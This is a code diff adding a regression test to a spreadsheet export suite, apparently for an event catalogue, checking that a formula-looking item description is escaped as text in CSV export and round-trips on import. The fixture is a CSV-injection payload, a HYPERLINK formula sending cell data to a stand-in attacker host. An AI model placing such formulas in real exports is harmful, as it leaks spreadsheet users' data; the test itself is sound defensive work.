@@ -345,6 +345,29 @@ describe('spreadsheets', () => {
     },
   );
 
+  it('exports a description that looks like a formula as text, and imports it back unchanged', async () => {
+    // Security review (issue 30): the catalogue CSV wrote cells as they were, so a description
+    // saved as a formula ran when the next organiser opened the export in a spreadsheet.
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
+    const item = await itemCoded('DA103');
+    const saved = await organiser.call(
+      'PUT',
+      `${base}/Items/${item.id}`,
+      fieldsOf(item, { description: formula }),
+    );
+    expect(saved.statusCode, saved.body).toBe(200);
+    const exported = await exportSheet('csv');
+    const row = exported
+      .toString('utf8')
+      .split('\n')
+      .find((r) => r.startsWith('DA103,'));
+    expect(row).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`);
+    const dryRun = await importSheet('catalogue.csv', exported);
+    expect(dryRun.json<ImportReport>()).toMatchObject({ updated: 0, problems: [] });
+    expect((await itemCoded('DA103')).description).toBe(formula);
+    await organiser.call('PUT', `${base}/Items/${item.id}`, fieldsOf(item));
+  });
+
   it('exports the columns an organiser reads, with prices in rand and limits in minutes', async () => {
     const text = (await exportSheet('csv')).toString('utf8');
     const [header, ...rows] = text.replace(/^\uFEFF/, '').split('\n');
